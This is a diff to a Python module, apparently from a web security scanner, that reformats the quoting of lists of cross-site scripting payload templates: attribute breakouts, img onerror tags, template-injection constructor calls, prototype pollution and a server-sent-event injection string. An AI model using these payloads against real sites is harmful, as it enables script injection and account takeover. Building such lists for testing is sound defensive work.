@@ -71,10 +71,10 @@ _EVENTS = [
     "div onwheel",
 ]
 _ATTRIBUTES = [
-    "\" onmouseover=\"{call}",
+    '" onmouseover="{call}',
     "' onmouseover='{call}",
-    "\" autofocus onfocus=\"{call}\" x=\"",
-    "\"><img src=x onerror={call}>",
+    '" autofocus onfocus="{call}" x="',
+    '"><img src=x onerror={call}>',
     "'><img src=x onerror={call}>",
     "`><img src=x onerror={call}>",
     "--><img src=x onerror={call}>",
@@ -108,9 +108,9 @@ _CODE = [
     "${{{call}}}",
     "{{{{constructor.constructor('{call}')()}}}}",
     "';{call};//",
-    "\";{call};//",
+    '";{call};//',
     "__proto__",
-    "data: {{}}\n\nevent: answer\ndata: {{\"answer\":\"{call}\"}}\n\n",
+    'data: {{}}\n\nevent: answer\ndata: {{"answer":"{call}"}}\n\n',
 ]
 
 PAYLOADS = [
